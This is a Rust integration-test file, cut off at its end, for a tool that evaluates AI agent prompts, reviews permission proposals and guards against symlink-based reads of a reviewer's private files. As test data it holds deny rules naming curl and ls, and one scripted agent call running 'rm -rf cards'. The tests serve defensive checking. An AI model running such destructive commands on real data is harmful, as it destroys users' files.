//! `builder eval` and `builder review` end to end: golden cases fired by the real
//! runtime in temporary worktrees on base and head (scripted, and live against a
//! model server on 127.0.0.1), a deliberately worse prompt failing both commands with
//! the case and assertion named, and the review story: fires record denied calls, a
//! proposal allows them, the review lists exactly those calls, another identity
//! approves, the merge lands and the audit is clean.

use crate::util::{settings_yaml, turn, ModelServer, TestEnv, Wire, KEY_ENV};
use serde_json::{json, Value};
use std::collections::BTreeSet;
use std::process::Output;

/// A scripted case: list the cards, then answer with a digest.
const LISTS_CASE: &str = r##"name: lists-cards
model: scripted
script:
  - call: { tool: run_command, args: { command: "ls cards" } }
  - text: "# Digest\n\nOpen cards: none were found in the cards directory today, so there is nothing to triage this morning. Activity: a quiet day with no new commits worth a closer look."
assert:
  - must_call: run_command
  - call_order: [run_command]
  - no_denials: true
  - report_contains: "Open cards"
  - report_matches: "^Open cards"
  - max_steps: 4
  - max_cost_usd: 0.01
  - acceptance_passes: true
  - no_secret_in_records: true
"##;

/// The scaffold's prompt made worse: its own deny rule forbids `ls`.
fn worse_prompt(env: &TestEnv) -> String {
    env.read("prompts/digest.md")
        .replacen("budgets:\n", "deny: [\"Bash(ls*)\"]\nbudgets:\n", 1)
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn json_of(o: &Output) -> Value {
    serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}):\n{}\n{}", stdout(o), String::from_utf8_lossy(&o.stderr)))
}

/// The failures of an eval's JSON, as `case/assertion`.
fn failures(r: &Value) -> BTreeSet<String> {
    r["summary"]["failures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| format!("{}/{}", f["case"].as_str().unwrap(), f["assertion"].as_str().unwrap()))
        .collect()
}

fn git_worktrees(env: &TestEnv) -> usize {
    let repo = git2::Repository::open(&env.root).unwrap();
    repo.worktrees().unwrap().len()
}

#[test]
fn eval_compares_base_and_head_and_names_the_worse_prompts_failing_assertions() {
    let env = TestEnv::new();
    env.write("evals/digest/lists.yaml", LISTS_CASE);
    env.commit_all("add a golden case");
    env.write("prompts/digest.md", &worse_prompt(&env));
    env.commit_all("a worse prompt");
    let before = env.git_snapshot();
    let head = env.head_id();
    let junit = env.home.join("eval.xml");

    let out = env.builder(&["eval", "--junit", junit.to_str().unwrap()]);
    let text = stdout(&out);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("base: HEAD^"), "{text}");
    for line in [
        "FAIL lists-cards (evals/digest/lists.yaml): must_call: run_command [regression]",
        "FAIL lists-cards (evals/digest/lists.yaml): no_denials: true [regression]",
    ] {
        assert!(text.contains(line), "{line} in:\n{text}");
    }
    let xml = std::fs::read_to_string(&junit).unwrap();
    assert!(xml.contains("<failure message=\"no_denials: true\">"), "{xml}");

    let out = env.builder(&["eval", "--json"]);
    assert_eq!(out.status.code(), Some(1));
    let r = json_of(&out);
    let rows = r["rows"].as_array().unwrap();
    let row = |case: &str, rev: &str| {
        rows.iter()
            .find(|x| x["case"] == case && x["revision"] == rev)
            .unwrap_or_else(|| panic!("{case} {rev} in {r}"))
    };
    assert_eq!(row("lists-cards", "base")["failed"], false, "{r}");
    assert_eq!(row("lists-cards", "base")["tool_calls"], 1);
    assert_eq!(row("lists-cards", "head")["failed"], true);
    assert_eq!(row("lists-cards", "head")["denials"], 1);
    assert_eq!(
        row("digest-basic", "head")["failed"],
        false,
        "the scaffold's replay case still passes"
    );
    let failing = failures(&r);
    assert_eq!(
        failing,
        BTreeSet::from([
            "lists-cards/must_call: run_command".to_string(),
            "lists-cards/no_denials: true".to_string()
        ])
    );
    assert_eq!(r["summary"]["head"]["passed"], 1);
    assert_eq!(r["summary"]["base"]["passed"], 2);

    // Head against itself passes on the base side too: the worse prompt is the cause.
    let out = env.builder(&["eval", "--base", "HEAD~1", "--head", "HEAD~1"]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));

    // Nothing committed, no worktree left, the repository's own state untouched.
    assert_eq!(env.head_id(), head);
    assert_eq!(env.git_snapshot(), before);
    assert_eq!(git_worktrees(&env), 0);
    assert!(
        !env.root.join(".runtime").exists(),
        "the evals wrote into the real .runtime"
    );
}

#[test]
fn check_names_file_line_and_field_of_a_bad_case() {
    let env = TestEnv::new();
    env.write(
        "evals/digest/bad.yaml",
        "model: scripted\nscript:\n  - text: hi\nassert:\n  - must_call: list_dir\n  - must_dance: true\n",
    );
    env.write(
        "evals/nosuch/orphan.yaml",
        "model: scripted\nscript:\n  - text: hi\nassert:\n  - no_denials: true\n",
    );
    let out = env.builder(&["check"]);
    assert_eq!(out.status.code(), Some(1));
    let text = stdout(&out);
    assert!(
        text.contains("evals/digest/bad.yaml:6: assert.must_dance: unknown assertion `must_dance`"),
        "{text}"
    );
    assert!(
        text.contains("evals/nosuch/orphan.yaml:0: task: no task `nosuch`: prompts/nosuch.md does not exist"),
        "{text}"
    );
    let out = env.builder(&["eval", "--task", "missing"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--task missing: no cases"));
}

#[test]
fn a_live_case_runs_repeatedly_against_an_openai_compatible_server() {
    let env = TestEnv::new();
    let answer =
        "# Digest\n\nActivity: quiet. Open cards: none. Worth a look: nothing today, the repository is calm and tidy.";
    let server = ModelServer::start(
        (0..4)
            .map(|_| turn(Wire::OpenAi, Some(answer), &[], (100, 20)))
            .collect(),
    );
    env.write(
        "settings/runtime.yaml",
        &settings_yaml(&server.provider_yaml(Wire::OpenAi), ""),
    );
    env.write(
        "evals/digest/live.yaml",
        "name: live-digest\nmodel: provider\nrepeat: 2\nmin_pass: 0.5\nassert:\n  - report_contains: \"# Digest\"\n  - no_secret_in_records: true\n  - max_steps: 2\n",
    );
    std::fs::remove_file(env.root.join("evals/digest/basic.yaml")).unwrap();
    env.commit_all("a live case");
    let out = env.builder(&["eval", "--base", "HEAD", "--head", "HEAD", "--json"]);
    let r = json_of(&out);
    assert_eq!(out.status.code(), Some(0), "{r}");
    let rows = r["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    for x in rows {
        assert_eq!((x["runs"].as_u64(), x["passed"].as_u64()), (Some(2), Some(2)), "{x}");
        assert_eq!(x["tokens"], 240);
    }
    let seen = server.requests();
    assert_eq!(seen.len(), 4, "two revisions, two runs each");
    assert!(seen[0].path.ends_with("/chat/completions"), "{}", seen[0].path);
    assert!(
        seen[0]
            .headers
            .iter()
            .any(|(k, v)| k == "authorization" && v.contains(crate::util::TEST_KEY)),
        "the key from {KEY_ENV} reached the server"
    );
}

/// A recorded model run for `runtime fire --replay`: a denied `curl`, an `ls`, an answer.
fn trace_with_curl(n: usize) -> Value {
    json!({"version": 1, "turns": [
        {"tool_calls": [{"id": "c1", "name": "run_command", "arguments": {"command": format!("curl -s https://example.com/feed/{n}")}}]},
        {"tool_calls": [{"id": "c2", "name": "run_command", "arguments": {"command": "ls cards"}}]},
        {"content": "# Digest\n\nActivity: the feed could not be fetched; the cards directory was listed instead. Open cards: none at all. Worth a look: nothing today, all quiet."}
    ]})
}

/// The scaffold's settings with `curl` denied instead of asked about.
fn denying_curl(settings: &str) -> String {
    settings.replacen("  ask:\n    - \"Bash(curl*)\"\n", "", 1).replacen(
        "  deny:\n",
        "  deny:\n    - \"Bash(curl*)\"\n",
        1,
    )
}

#[test]
fn review_lists_exactly_the_calls_a_proposal_would_allow_then_approve_merge_audit() {
    let env = TestEnv::new();
    let settings = env.read("settings/runtime.yaml");
    let denying = denying_curl(&settings);
    assert_ne!(denying, settings, "the scaffold's settings have the expected shape");
    env.write("settings/runtime.yaml", &denying);
    env.write("evals/digest/lists.yaml", LISTS_CASE);
    env.commit_all("deny curl; a golden case");
    let mut denied = BTreeSet::new();
    let mut denial_cards = Vec::new();
    for n in 0..3 {
        let trace = env.home.join(format!("trace-{n}.json"));
        std::fs::write(&trace, trace_with_curl(n).to_string()).unwrap();
        let out = env.runtime(&["fire", "digest", "--json", "--replay", trace.to_str().unwrap()]);
        let summary = json_of(&out);
        let receipt = env.receipt(&summary);
        assert_eq!(receipt["denials"], 1, "{receipt}");
        for (card, kind) in env.cards(&summary).iter().zip(env.card_kinds(&summary)) {
            if kind == "permission_denied" {
                denial_cards.push(card["id"].as_str().unwrap().to_string());
            }
        }
        denied.insert((
            summary["run_id"].as_str().unwrap().to_string(),
            format!("curl -s https://example.com/feed/{n}"),
        ));
    }

    env.write(
        "settings/runtime.yaml",
        &denying.replacen("    - \"Bash(curl*)\"\n", "", 1).replacen(
            "  allow:\n",
            "  allow:\n    - \"Bash(curl -s https://example.com/*)\"\n",
            1,
        ),
    );
    assert!(
        !denial_cards.is_empty(),
        "the denied fires wrote permission_denied cards"
    );
    let fixed = denial_cards[0].clone();
    let out = env.builder(&[
        "propose",
        "allow-feed",
        "-m",
        "Allow fetching the feed",
        "--fixes",
        &fixed,
    ]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    let out = env.builder(&["review", "allow-feed", "--format", "json"]);
    let r = json_of(&out);
    assert_eq!(out.status.code(), Some(0), "{r}");
    assert_eq!(r["proposal"], "allow-feed");
    assert_eq!(r["diff"], json!(["settings/runtime.yaml"]));
    assert_eq!(r["changes"][0]["status"], "modified");
    assert_eq!(r["check"], json!([]));
    assert_eq!(r["history"]["calls"], 6, "three fires, two calls each");
    let delta = r["capability_delta"].as_array().unwrap();
    assert_eq!(delta.len(), 1, "{r}");
    let g = &delta[0];
    assert_eq!((g["from"].as_str(), g["to"].as_str()), (Some("deny"), Some("allow")));
    assert_eq!(g["rule_before"], "Bash(curl*)");
    assert_eq!(g["rule_after"], "Bash(curl -s https://example.com/*)");
    assert_eq!(g["count"], 3);
    let listed: BTreeSet<(String, String)> = g["calls"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["run_id"].as_str().unwrap().to_string(),
                c["command_or_path"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(listed, denied, "exactly the denied curl calls");
    let cases: BTreeSet<&str> = r["evals"]["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["case"].as_str().unwrap())
        .collect();
    assert_eq!(cases, BTreeSet::from(["digest-basic", "lists-cards"]));
    assert_eq!(r["evals"]["summary"]["ok"], true);
    let fix = &r["fixes"][0];
    assert_eq!(
        (fix["card"].as_str(), fix["kind"].as_str()),
        (Some(fixed.as_str()), Some("permission_denied"))
    );
    assert_eq!(fix["shown"], true, "{fix}");
    assert_eq!(
        fix["calls_changed"][0]["count"], 1,
        "the card's run's one denied curl is allowed now"
    );
    assert!(fix["method"].as_str().unwrap().contains("decided run"), "{fix}");
    assert!(
        fix["method"]
            .as_str()
            .unwrap()
            .contains("with its 3 recorded model response(s)"),
        "{fix}"
    );
    assert!(
        fix["method"]
            .as_str()
            .unwrap()
            .contains("the permission_denied card does not recur"),
        "{fix}"
    );
    let rerun_kinds = fix["rerun"]["card_kinds"].as_array().unwrap();
    assert!(!rerun_kinds.iter().any(|k| k == "permission_denied"), "{fix}");
    assert_ne!(fix["rerun"]["status"], "none", "the re-run left a receipt: {fix}");

    let out = env.builder(&["review", "allow-feed", "--format", "github"]);
    let md = stdout(&out);
    assert!(md.contains("### Capability delta"), "{md}");
    assert!(
        md.contains("would have allowed 3 call(s) denied before: `Bash(curl*)` before"),
        "{md}"
    );
    // The calls are named by run and call, never by the machine's recorded commands.
    let delta = md.lines().find(|l| l.contains("would have allowed 3 call(s)")).unwrap();
    assert!(!delta.contains("/feed/") && delta.contains(" c1`"), "{md}");
    let text = stdout(&env.builder(&["review", "allow-feed"]));
    assert!(
        text.contains("example.com/feed/"),
        "the text review still shows them: {text}"
    );
    assert!(md.contains("| `lists-cards` | head | 1/1 |"), "{md}");
    let out = env.builder(&["review", "allow-feed", "--days", "1"]);
    assert_eq!(out.status.code(), Some(0));
    assert!(stdout(&out).contains("6 recorded call(s)"), "{}", stdout(&out));

    let out = env
        .command("builder", &["approve", "allow-feed"])
        .env("GIT_AUTHOR_NAME", "Rev")
        .env("GIT_AUTHOR_EMAIL", "rev@example.com")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = env.builder(&["merge", "allow-feed"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = env.builder(&["audit"]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
}

/// A proposal that fixes nothing but says it fixes a `permission_denied` card, with a
/// case of its own that names the card and passes whatever the settings say: the
/// re-run of the card's run on the proposal shows the card coming back, and that
/// outweighs the author's case. The evidence is not shown.
#[test]
fn a_case_the_author_wrote_does_not_outweigh_a_rerun_in_which_the_card_recurs() {
    let env = TestEnv::new();
    let settings = env.read("settings/runtime.yaml");
    let denying = denying_curl(&settings);
    env.write("settings/runtime.yaml", &denying);
    env.commit_all("deny curl");
    let trace = env.home.join("trace.json");
    std::fs::write(&trace, trace_with_curl(0).to_string()).unwrap();
    let out = env.runtime(&["fire", "digest", "--json", "--replay", trace.to_str().unwrap()]);
    let summary = json_of(&out);
    let card = env
        .cards(&summary)
        .iter()
        .zip(env.card_kinds(&summary))
        .find(|(_, k)| k == "permission_denied")
        .map(|(c, _)| c["id"].as_str().unwrap().to_string())
        .expect("the denied fire wrote a permission_denied card");
    env.write(
        "evals/digest/self-certified.yaml",
        &format!("name: self-certified\nmodel: scripted\nscript:\n  - text: \"# Digest\"\nfixes: [{card}]\nassert:\n  - max_steps: 100\n"),
    );
    let out = env.builder(&["propose", "claims-a-fix", "-m", "Fix the feed", "--fixes", &card]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = env.builder(&["review", "claims-a-fix", "--format", "json"]);
    let r = json_of(&out);
    let fix = &r["fixes"][0];
    let method = fix["method"].as_str().unwrap();
    assert!(
        method.contains("the permission_denied card recurs"),
        "the re-run ran: {fix}"
    );
    assert!(method.contains("1 of 1 eval case(s) naming the card pass"), "{fix}");
    assert_eq!(fix["shown"], false, "{fix}");
}

#[test]
fn review_of_a_worse_prompt_exits_1_naming_the_failing_assertions() {
    let env = TestEnv::new();
    env.write("evals/digest/lists.yaml", LISTS_CASE);
    env.commit_all("a golden case");
    env.write("prompts/digest.md", &worse_prompt(&env));
    let out = env.builder(&["propose", "worse", "-m", "Narrow the digest"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = env.builder(&["review", "worse"]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("modified prompts/digest.md"), "{text}");
    assert!(text.contains("+deny: [\"Bash(ls*)\"]"), "{text}");
    assert!(
        text.contains("FAIL lists-cards (evals/digest/lists.yaml): no_denials: true [regression]"),
        "{text}"
    );
    assert!(text.contains("FAIL: checks or evals fail"), "{text}");
    let out = env.builder(&["review", "worse", "--format", "github"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).contains("- ❌ `lists-cards`: `must_call: run_command` (regression)"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn under_require_reviewed_an_eval_runs_the_unapproved_proposal_without_committing() {
    let env = TestEnv::new();
    let settings = env.read("settings/runtime.yaml");
    env.write(
        "settings/runtime.yaml",
        &format!("{settings}\nrequire_reviewed: true\n"),
    );
    env.write("evals/digest/lists.yaml", LISTS_CASE);
    env.commit_all("require review; a golden case");
    // A plain fire refuses the unapproved tree; `--eval` exists only without a commit.
    let (code, summary, _) = env.fire("digest");
    assert_eq!(code, 1);
    assert_eq!(env.card_kinds(&summary), ["unreviewed_changes"]);
    let out = env.runtime(&["fire", "digest", "--eval", "--json"]);
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--no-commit"));

    let head = env.head_id();
    env.write(
        "prompts/digest.md",
        &format!("{}\nKeep it short.\n", env.read("prompts/digest.md")),
    );
    let out = env.builder(&["propose", "shorter"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = env.builder(&["review", "shorter", "--format", "json"]);
    let r = json_of(&out);
    // Review was turned on by a direct commit no approval covers: approving the
    // proposal covers it too, so the review shows it and fails; the evals pass.
    assert_eq!(out.status.code(), Some(1), "{r}");
    assert_eq!(r["evals"]["summary"]["ok"], true, "{r}");
    let base_changes: Vec<&str> = r["unreviewed_base"]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|c| c["path"].as_str())
        .collect();
    assert_eq!(
        base_changes,
        ["evals/digest/lists.yaml", "settings/runtime.yaml"],
        "{r}"
    );
    let head_rows: Vec<&Value> = r["evals"]["rows"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|x| x["revision"] == "head")
        .collect();
    assert_eq!(head_rows.len(), 2);
    assert!(
        head_rows
            .iter()
            .all(|x| x["failed"] == false && x["steps"].as_u64() > Some(0)),
        "{r}"
    );
    assert_eq!(env.head_id(), head, "the evals committed nothing");
}

#[test]
fn every_assertion_but_the_secret_guard_can_fail_and_is_named() {
    let env = TestEnv::new();
    let settings = env.read("settings/runtime.yaml");
    let priced = settings.replacen(
        "prices:\n",
        "prices:\n  replay: { input_per_mtok: 1000.0, output_per_mtok: 1000.0 }\n  scripted: { input_per_mtok: 1000.0, output_per_mtok: 1000.0 }\n",
        1,
    );
    assert_ne!(priced, settings);
    env.write("settings/runtime.yaml", &priced);
    env.write(
        "evals/digest/broken.yaml",
        r#"name: broken
model: scripted
script:
  - call: { tool: run_command, args: { command: "rm -rf cards" } }
    usage: { input: 100, output: 100 }
  - call: { tool: list_dir, args: { path: cards } }
  - text: "nothing"
assert:
  - must_call: read_file
  - must_not_call: list_dir
  - call_order: [list_dir, run_command]
  - report_contains: "Open cards"
  - report_matches: "^# Digest"
  - max_steps: 1
  - max_cost_usd: 0.001
  - no_denials: true
  - acceptance_passes: true
  - no_secret_in_records: true
"#,
    );
    std::fs::remove_file(env.root.join("evals/digest/basic.yaml")).unwrap();
    env.commit_all("a case that breaks its assertions");
    let out = env.builder(&["eval", "--base", "HEAD", "--json"]);
    assert_eq!(out.status.code(), Some(1));
    let r = json_of(&out);
    let broken: BTreeSet<String> = r["summary"]["failures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["assertion"].as_str().unwrap().split(':').next().unwrap().to_string())
        .collect();
    let want: BTreeSet<String> = [
        "must_call",
        "must_not_call",
        "call_order",
        "report_contains",
        "report_matches",
        "max_steps",
        "max_cost_usd",
        "no_denials",
        "acceptance_passes",
    ]
    .into_iter()
    .map(str::to_string)
    .collect();
    assert_eq!(broken, want, "{r}");
    // Same revision on both sides: nothing got worse, so nothing is a regression.
    assert!(r["summary"]["failures"]
        .as_array()
        .unwrap()
        .iter()
        .all(|f| f["regression"] == false));
}

#[test]
fn an_eval_started_from_a_hook_fires_in_its_worktree_not_the_engineers_checkout() {
    let env = TestEnv::new();
    env.write("evals/digest/lists.yaml", LISTS_CASE);
    env.commit_all("a golden case");
    env.write(
        "prompts/digest.md",
        &format!("{}\nKeep it short.\n", env.read("prompts/digest.md")),
    );
    env.commit_all("a prompt change");
    // A hook's environment points at the engineer's index, which holds the newer
    // prompt: a fire of the older revision reading it would see a dirty prompt.
    let out = env
        .command("builder", &["eval", "--base", "HEAD~1", "--head", "HEAD~1", "--json"])
        .env("GIT_INDEX_FILE", env.root.join(".git/index"))
        .env("GIT_WORK_TREE", &env.root)
        .output()
        .unwrap();
    let r = json_of(&out);
    assert_eq!(out.status.code(), Some(0), "{r}");
    assert_eq!(r["rows"].as_array().unwrap().len(), 4);
    assert!(
        !env.root.join(".runtime").exists(),
        "a fire used the engineer's checkout"
    );
    let repo = git2::Repository::open(&env.root).unwrap();
    assert!(repo.statuses(None).unwrap().is_empty(), "the checkout is clean");
}

#[test]
fn a_case_file_linked_out_of_the_repository_is_never_read() {
    let env = TestEnv::new();
    // A file of the reviewer's, outside the repository, that happens to be a case.
    let private = env.home.parent().unwrap().join("reviewer-private");
    std::fs::create_dir_all(&private).unwrap();
    let case = "name: reviewer-private-case\nmodel: scripted\nscript:\n  - text: \"# Digest\\n\\nA quiet day.\"\nassert:\n  - report_contains: \"Digest\"\n";
    std::fs::write(private.join("case.yaml"), case).unwrap();
    let both = |o: &Output| format!("{}{}", stdout(o), String::from_utf8_lossy(&o.stderr));
    // The reach of the attack: the same bytes as a case file of the revision are read,
    // fired and named in the output.
    env.write("evals/digest/copy.yaml", case);
    env.commit_all("a case");
    let out = env.builder(&["eval", "--base", "HEAD", "--head", "HEAD"]);
    assert!(both(&out).contains("reviewer-private-case"), "{}", both(&out));
    // A proposal's case file that is a link to it (and a task directory that is a link
    // to the reviewer's directory): neither is followed, and the output names the link.
    std::fs::remove_file(env.root.join("evals/digest/copy.yaml")).unwrap();
    std::os::unix::fs::symlink(private.join("case.yaml"), env.root.join("evals/digest/steal.yaml")).unwrap();
    std::os::unix::fs::symlink(&private, env.root.join("evals/t")).unwrap();
    env.write("prompts/t.md", crate::util::PLAIN_PROMPT);
    env.commit_all("links out of the repository");
    let out = env.builder(&["eval", "--base", "HEAD", "--head", "HEAD"]);
    let text = both(&out);
    assert!(
        !text.contains("reviewer-private-case"),
        "the linked file was read:\n{text}"
    );
    assert!(
        text.contains("evals/digest/steal.yaml"),
        "the link is not named:\n{text}"
    );
    assert!(text.contains("symlink"), "{text}");
    assert!(
        text.contains("evals/t/case.yaml"),
        "the linked directory is not named:\n{text}"
    );

    // A replay case whose trace links to a file of the reviewer's: as a regular file
    // of the revision its answer becomes the report; as a link it is never read. (The
    // links above go first: an eval fire refuses a tree whose builder-owned links leave
    // the builder-owned paths, whatever the case.)
    std::fs::remove_file(env.root.join("evals/digest/steal.yaml")).unwrap();
    std::fs::remove_file(env.root.join("evals/t")).unwrap();
    let trace = r##"{"version": 1, "turns": [{"content": "# Digest\n\nREVIEWER-PRIVATE-TRACE"}]}"##;
    std::fs::write(private.join("trace.json"), trace).unwrap();
    env.write("evals/digest/trace.json", trace);
    env.write(
        "evals/digest/replayed.yaml",
        "name: replayed\nmodel: replay\nreplay: evals/digest/trace.json\nassert:\n  - report_contains: \"REVIEWER-PRIVATE-TRACE\"\n",
    );
    env.commit_all("a replay case");
    let out = env.builder(&["eval", "--base", "HEAD", "--head", "HEAD", "--json"]);
    let passed = |o: &Output| {
        json_of(o)["rows"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["case"] == "replayed" && r["revision"] == "head" && r["failed"] == false)
    };
    assert!(passed(&out), "the regular trace was replayed: {}", both(&out));
    std::fs::remove_file(env.root.join("evals/digest/trace.json")).unwrap();
    std::os::unix::fs::symlink(private.join("trace.json"), env.root.join("evals/digest/trace.json")).unwrap();
    env.commit_all("the trace links out");
    let out = env.builder(&["eval", "--base", "HEAD", "--head", "HEAD", "--json"]);
    assert!(!passed(&out), "the linked trace was replayed: {}", both(&out));
}

#[test]
fn a_runtime_directory_the_revision_links_out_is_never_written_through() {
    let env = TestEnv::new();
    let private = env.home.parent().unwrap().join("reviewer-private");
    std::fs::create_dir_all(&private).unwrap();
    env.write("evals/digest/lists.yaml", LISTS_CASE);
    // The revision commits `.runtime` as a link to the reviewer's directory (the
    // fire refuses a tree that tracks `.runtime`; the eval writes its scripts first).
    std::os::unix::fs::symlink(&private, env.root.join(".runtime")).unwrap();
    let repo = git2::Repository::open(&env.root).unwrap();
    let mut idx = repo.index().unwrap();
    idx.add_path(std::path::Path::new(".runtime")).unwrap();
    idx.write().unwrap();
    env.commit_all("a case, and .runtime linked out");
    std::fs::remove_file(env.root.join(".runtime")).unwrap();
    let out = env.builder(&["eval", "--base", "HEAD", "--head", "HEAD"]);
    let text = format!("{}{}", stdout(&out), String::from_utf8_lossy(&out.stderr));
    let written: Vec<_> = std::fs::read_dir(&private)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert!(
        written.is_empty(),
        "the eval wrote through the link: {written:?}\n{text}"
    );
    assert!(text.contains("never followed"), "{text}");
}

/// A proposal's big files do not make the review hold or print them whole: a file
/// over 1 MiB is diffed as binary, and the diff text stops at 4 MiB with a note
/// naming the command that shows the rest.
#[test]
fn a_review_of_big_files_shows_a_bounded_diff() {
    let env = TestEnv::new();
    let line = "all work and no play makes a long file\n";
    env.write("tools/big.txt", &line.repeat((2 << 20) / line.len()));
    for i in 0..5 {
        env.write(
            &format!("tools/part{i}.txt"),
            &format!("{i} {line}").repeat(900_000 / line.len()),
        );
    }
    let out = env.builder(&["propose", "big", "-m", "Big files"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = env.builder(&["review", "big"]);
    let text = stdout(&out);
    assert!(text.contains("Binary files"), "the 2 MiB file is diffed as binary");
    assert!(
        text.contains("more bytes of diff not shown: `git diff "),
        "no truncation note"
    );
    assert!(text.len() < 5 << 20, "{} bytes printed", text.len());
}

/// The `builder-*` entries of `tmp`.
fn eval_scratch(tmp: &std::path::Path) -> BTreeSet<String> {
    std::fs::read_dir(tmp)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("builder-"))
        .collect()
}

#[test]
fn what_a_killed_eval_left_in_the_temporary_directory_the_next_eval_removes() {
    use std::os::unix::process::ExitStatusExt;
    let env = TestEnv::new();
    env.write("evals/digest/lists.yaml", LISTS_CASE);
    env.commit_all("a golden case");
    let tmp = env.home.join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let eval = |failpoint: Option<&str>| {
        let mut c = env.command("builder", &["eval", "--base", "HEAD", "--head", "HEAD"]);
        c.env("TMPDIR", &tmp);
        if let Some(point) = failpoint {
            c.env("RUNTIME_FAILPOINTS", point);
        }
        c.output().unwrap()
    };

    // SIGKILLed (a CI job's timeout) with the first checkout made: no destructor runs.
    let killed = eval(Some("eval-checkout-made"));
    assert_eq!(killed.status.signal(), Some(9), "{killed:?}");
    let left = eval_scratch(&tmp);
    assert!(
        left.iter().any(|n| n.starts_with("builder-eval-")) && left.iter().any(|n| n.starts_with("builder-trusted-")),
        "the kill left its checkout and its trusted settings: {left:?}"
    );
    let checkout = tmp.join(left.iter().find(|n| n.starts_with("builder-eval-")).unwrap());
    assert!(checkout.join("wt/prompts/digest.md").exists());

    // One held by a live eval elsewhere stays: a directory of the same name whose
    // lock this test holds.
    let live = tmp.join("builder-eval-live");
    std::fs::create_dir(&live).unwrap();
    let held = std::fs::File::create(live.join(".held")).unwrap();
    assert!(kernel::fs::lock_exclusive(&held, kernel::fs::Wait::No).unwrap());

    let out = eval(None);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert_eq!(
        eval_scratch(&tmp),
        BTreeSet::from(["builder-eval-live".to_string()]),
        "the killed eval's directories are swept and this one's removed"
    );
    drop(held);
}

#[test]
fn a_case_the_head_weakens_still_runs_as_the_base_has_it() {
    let env = TestEnv::new();
    env.write("evals/digest/lists.yaml", LISTS_CASE);
    env.commit_all("a golden case");
    // The worse prompt denies `ls`; the same commit weakens the case that would catch
    // it: the assertions the denial breaks are gone.
    env.write("prompts/digest.md", &worse_prompt(&env));
    let weakened = LISTS_CASE
        .replace("  - must_call: run_command\n", "")
        .replace("  - call_order: [run_command]\n", "")
        .replace("  - no_denials: true\n", "");
    env.write("evals/digest/lists.yaml", &weakened);
    env.commit_all("a worse prompt, a weaker case");

    let out = env.builder(&["eval", "--json"]);
    let r = json_of(&out);
    assert_eq!(out.status.code(), Some(1), "{r}");
    let failing = failures(&r);
    assert_eq!(
        failing,
        BTreeSet::from([
            "lists-cards (base's version)/must_call: run_command".to_string(),
            "lists-cards (base's version)/no_denials: true".to_string(),
        ]),
        "the head's own weakened case passes; the base's version catches the denial: {r}"
    );
    let text = stdout(&env.builder(&["eval"]));
    assert!(
        text.contains("FAIL lists-cards (base's version) (evals/digest/lists.yaml): no_denials: true [regression]"),
        "{text}"
    );

    // An unchanged case runs once per revision, under its own name only.
    let out = env.builder(&["eval", "--base", "HEAD", "--head", "HEAD", "--json"]);
    let r = json_of(&out);
    assert_eq!(out.status.code(), Some(0), "{r}");
    assert!(
        !r["rows"]
            .as_array()
            .unwrap()
            .iter()
            .any(|x| x["case"].as_str().unwrap().contains("base's version")),
        "{r}"
    );
}

#[test]
fn a_replay_case_whose_trace_the_head_edits_still_runs_with_the_base_trace() {
    let env = TestEnv::new();
    let trace = |turns: Value| json!({ "version": 1, "model": "replay-lists", "turns": turns }).to_string();
    let answer = json!({
        "content": "# Digest\n\nOpen cards: none were found in the cards directory today, so there is nothing to triage this morning. Activity: a quiet day with no new commits worth a closer look.",
        "usage": { "input": 100, "output": 40 }
    });
    let ls = json!({
        "tool_calls": [{ "id": "c1", "name": "run_command", "arguments": { "command": "ls cards" } }],
        "usage": { "input": 100, "output": 10 }
    });
    env.write("evals/digest/lists.json", &trace(json!([ls, answer])));
    env.write(
        "evals/digest/lists-replay.yaml",
        "name: lists-replay\nmodel: replay\nreplay: evals/digest/lists.json\nassert:\n  - no_denials: true\n  - report_contains: \"Open cards\"\n",
    );
    env.commit_all("a replay case");
    // The worse prompt denies `ls`; the case file stays as it was, and its trace no
    // longer makes the call the denial would catch.
    env.write("prompts/digest.md", &worse_prompt(&env));
    env.write("evals/digest/lists.json", &trace(json!([answer])));
    env.commit_all("a worse prompt, a friendlier trace");

    let out = env.builder(&["eval", "--json"]);
    let r = json_of(&out);
    assert_eq!(out.status.code(), Some(1), "{r}");
    assert_eq!(
        failures(&r),
        BTreeSet::from(["lists-replay (base's version)/no_denials: true".to_string()]),
        "the head's own case passes on its own trace; the base's trace meets the denial: {r}"
    );
}

#[test]
